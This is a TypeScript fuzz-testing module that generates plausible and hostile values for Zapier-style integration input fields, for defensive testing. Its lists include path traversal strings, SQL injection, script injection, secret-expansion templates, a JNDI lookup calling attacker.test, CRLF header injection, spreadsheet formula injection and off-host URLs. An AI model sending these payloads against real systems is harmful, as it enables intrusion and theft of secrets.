/**
 * Values a Zap can put into an input field: plausible ones (so that requests do get sent) and hostile
 * ones (wrong types, empty, huge, unicode, injection, malformed dates/emails/phones, ids that try to
 * leave their path segment). Which plausible value a field gets is read from its key, label and type,
 * so a field added later is covered without editing this file.
 */
import fc from 'fast-check';
import type { InputField } from './connectors';

export const PATH_ATTACKS = [
  '..',
  '.',
  '../..',
  '../../admin',
  'a/b',
  '/etc/passwd',
  'ct_1/../../v1/admin',
  'x?admin=true',
  'x#fragment',
  '%2e%2e',
  '%2e%2e%2f%2e%2e%2fadmin',
  'a%2Fb',
  '..%2F..%2F',
  '.%2E',
  ' .. ',
  '\\..\\..\\windows',
  'id with spaces',
];

export const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE patients; --',
  '<script>alert(1)</script>',
  '{{bundle.authData.access_token}}',
  '${process.env.CLIENT_SECRET}',
  '${jndi:ldap://attacker.test/a}',
  '\r\nX-Injected: 1',
  'line1\nline2',
  '\u0000',
  '\u202eevil',
  '&admin=true',
  '=cmd|"/c calc"!A1',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '__proto__',
  'constructor',
];

export const UNICODE = ['ⓐⓑⓒ', 'Zoë Ångström', '李小龍', 'مرحبا', '😀👍🏽👩‍👩‍👧', 'e\u0301', '\u200b', 'ﬁ', 'İstanbul'];

export const BAD_DATES = [
  '2026-02-30',
  '2026-13-01',
  '2026-00-10',
  '31/12/2026',
  '12/31/2026',
  'tomorrow',
  '2026-11-24T25:61:00Z',
  '0000-00-00',
  '1e3',
  '-1',
  '2026-11-24 09:00',
  '99999-01-01',
  '2026-1-5',
];

export const BAD_EMAILS = ['plainaddress', '@no-local.example', 'a@', 'a@@b.example', 'a b@c.example', 'a@b', '"quoted"@x', 'a@b..example', 'a@.example'];

export const BAD_PHONES = ['abc', '+', '++1', '555', '+1 (555) 0123 ext 99999999999999999', '☎️', '0000000000000000000000000', '+1-555-ABC-DEFG'];

export const BAD_TIMES = ['25:00', '9am', '12:60', '-1:00', '24:01', '1200', 'noon'];

const huge = (length: number) => fc.constant('x'.repeat(length));

const wrongTypes = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: false }),
  fc.boolean(),
  fc.constant(null),
  fc.constant({}),
  fc.constant({ nested: { value: '../x' } }),
  fc.array(fc.string(), { maxLength: 3 }),
  fc.constant([]),
);

const emptyish = fc.constantFrom('', ' ', '\t', '\n', '   ');

const anyString = fc.oneof(
  fc.string(),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.constantFrom(...UNICODE),
);

/** What the field is about, from its key and label. */
export function fieldKind(field: InputField): string {
  const name = `${field.key} ${field.label ?? ''}`.toLowerCase();
  if (field.type === 'boolean') return 'boolean';
  // API Request: a path relative to the API's base, and a JSON object body.
  if (field.key === 'path') return 'api_path';
  if (field.type === 'json') return 'json';
  if (/e-?mail/.test(name)) return 'email';
  if (/phone|mobile/.test(name)) return 'phone';
  if (/\bdob\b|birth/.test(name)) return 'date';
  if (/date_time|datetime|start_?time|end_?time|starttime|endtime|_at\b|after|before/.test(name) || field.type === 'datetime')
    return 'datetime';
  if (/date/.test(name)) return 'date';
  if (/time/.test(name)) return 'time';
  if (/price|cents|value|amount|monetary|limit|duration/.test(name) || field.type === 'integer' || field.type === 'number')
    return 'number';
  if (field.dynamic || /(^|_)ids?$|[a-z]Ids?$|_id\b|\bid\b/.test(field.key)) return 'id';
  if (/\bsex\b|gender/.test(name)) return 'sex';
  if (/zip|postal/.test(name)) return 'zip';
  if (/country/.test(name)) return 'country';
  if (/\bstate\b/.test(name)) return 'state';
  return 'text';
}

export function choiceValues(field: InputField): string[] {
  const { choices } = field;
  if (!choices) return [];
  if (Array.isArray(choices)) {
    return choices.map((choice) =>
      typeof choice === 'string' ? choice : String((choice as { value?: unknown; key?: unknown }).value ?? (choice as { key?: unknown }).key),
    );
  }
  if (typeof choices === 'object') return Object.keys(choices as Record<string, unknown>);
  return [];
}

/** A value the API should accept for this field. */
export function plausible(field: InputField): fc.Arbitrary<unknown> {
  // A dict field (key/value pairs in the Zap editor) arrives as an object of strings.
  if (field.dict) return fc.constantFrom({ cf_loyalty_tier: 'Gold' }, { cf_a1: 'x', cf_b2: '42' });
  const choices = choiceValues(field);
  let value: fc.Arbitrary<unknown>;
  if (choices.length) value = fc.constantFrom(...choices);
  else {
    switch (fieldKind(field)) {
      case 'boolean':
        value = fc.constantFrom('true', 'false', true, false);
        break;
      case 'email':
        value = fc.constantFrom('ada@example.com', 'zoe.angstrom+zap@example.org');
        break;
      case 'phone':
        value = fc.constantFrom('+15555550123', '+44 20 7946 0958', '555-0199');
        break;
      case 'date':
        // A birth date is in the past; any other date (a job's) in the future.
        value = /dob|birth/i.test(`${field.key} ${field.label ?? ''}`) ? fc.constantFrom('1990-04-12', '1962-11-30') : fc.constantFrom('2027-01-15', '2027-03-02');
        break;
      case 'datetime':
        // Start and end chosen apart so that every plausible end is after every plausible start.
        value = /end|before/i.test(field.key)
          ? fc.constantFrom('2027-01-15T11:00:00Z', '2027-01-15T12:30:00+01:00')
          : fc.constantFrom('2027-01-15T09:00:00Z', '2027-01-15T09:30:00+01:00');
        break;
      case 'time':
        value = fc.constantFrom('09:30', '14:00');
        break;
      case 'number':
        value = fc.constantFrom('1500', 250, '0');
        break;
      case 'id':
        value = fc.constantFrom('ct_0001', 'a1b2c3', '42');
        break;
      case 'sex':
        value = fc.constantFrom('F', 'M', '?');
        break;
      case 'api_path':
        value = fc.constantFrom('/contacts', '/me');
        break;
      case 'json':
        // An empty body goes with every method (a GET with a body is refused, naming Body).
        value = fc.constantFrom('', '{}');
        break;
      case 'zip':
        value = fc.constantFrom('10001', '94103');
        break;
      case 'state':
        value = fc.constantFrom('NY', 'CA');
        break;
      case 'country':
        value = fc.constantFrom('US', 'GB');
        break;
      default:
        value = fc.constantFrom('Ada', 'Window cleaning at the back', 'Lovelace');
    }
  }
  return field.list ? fc.array(value, { minLength: 1, maxLength: 3 }) : value;
}

/** A value a careless or malicious Zap could send. */
export function hostile(field: InputField): fc.Arbitrary<unknown> {
  const kind = fieldKind(field);
  const specific: fc.Arbitrary<unknown>[] = [];
  if (kind === 'email') specific.push(fc.constantFrom(...BAD_EMAILS));
  if (kind === 'phone') specific.push(fc.constantFrom(...BAD_PHONES));
  if (kind === 'date' || kind === 'datetime') specific.push(fc.constantFrom(...BAD_DATES));
  if (kind === 'time') specific.push(fc.constantFrom(...BAD_TIMES));
  if (kind === 'api_path') specific.push(fc.constantFrom('https://elsewhere.example/x', '//elsewhere.example/x', '/a/../b', '/%2e%2e/x', 'contacts', '/x@elsewhere.example'));
  if (kind === 'id') specific.push(fc.constantFrom(...PATH_ATTACKS), fc.constantFrom(...PATH_ATTACKS).map((attack) => [attack]));
  if (kind === 'number') specific.push(fc.constantFrom('-1', '1e309', 'NaN', '12,50', '0x10', 'ten', '9'.repeat(40)));
  if (choiceValues(field).length) specific.push(fc.constantFrom('not_a_choice', 'OPEN', '../x'));
  if (field.dict) specific.push(fc.constantFrom({ '../x': 'v' }, { '': 'v' }, { k: { nested: true } }, 'k=v', { k: 'x'.repeat(12_000) }));
  return fc.oneof(
    { weight: 4, arbitrary: specific.length ? fc.oneof(...specific) : fc.constantFrom(...PATH_ATTACKS) },
    { weight: 2, arbitrary: fc.constantFrom(...PATH_ATTACKS) },
    { weight: 2, arbitrary: fc.constantFrom(...INJECTIONS) },
    { weight: 2, arbitrary: anyString },
    { weight: 2, arbitrary: wrongTypes },
    { weight: 2, arbitrary: emptyish },
    // Long enough to break naive limits, short enough for a URL (nock hangs on request lines over 16 KB).
    { weight: 1, arbitrary: fc.oneof(huge(5_000), huge(12_000)) },
  );
}

export interface Case {
  /** The field given a hostile value on purpose, or undefined for a fully random case. */
  target?: string;
  inputData: Record<string, unknown>;
}

/**
 * Half the cases: every field plausible except one hostile (so the outcome can be pinned on that
 * field). The other half: each field independently absent, plausible or hostile.
 */
export function caseArbitrary(fields: InputField[]): fc.Arbitrary<Case> {
  const keys = fields.filter((field) => !field.computed).map((field) => field.key);
  const byKey = new Map(fields.map((field) => [field.key, field]));
  const allPlausible = fc.record(Object.fromEntries(keys.map((key) => [key, plausible(byKey.get(key)!)])));
  const oneHostile =
    keys.length === 0
      ? fc.constant<Case>({ inputData: {} })
      : fc.constantFrom(...keys).chain((target) =>
          fc
            .tuple(allPlausible, fc.oneof(hostile(byKey.get(target)!), fc.constant(undefined)))
            .map(([base, bad]) => {
              const inputData = { ...base } as Record<string, unknown>;
              if (bad === undefined) delete inputData[target];
              else inputData[target] = bad;
              return { target, inputData };
            }),
        );
  const random = fc
    .record(
      Object.fromEntries(
        keys.map((key) => [
          key,
          fc.oneof({ weight: 2, arbitrary: plausible(byKey.get(key)!) }, { weight: 2, arbitrary: hostile(byKey.get(key)!) }),
        ]),
      ),
      { requiredKeys: [] },
    )
    .map((inputData) => ({ inputData: inputData as Record<string, unknown> }));
  return fc.oneof(oneHostile, random);
}

/** Short, printable description of a value for reports. */
export function describeValue(value: unknown): string {
  if (typeof value === 'string') {
    const shown = value.length > 40 ? `${value.slice(0, 20)}…(${value.length} chars)` : value;
    return JSON.stringify(shown);
  }
  try {
    const json = JSON.stringify(value);
    return json === undefined ? String(value) : json.length > 60 ? `${json.slice(0, 40)}…` : json;
  } catch {
    return String(value);
  }
}
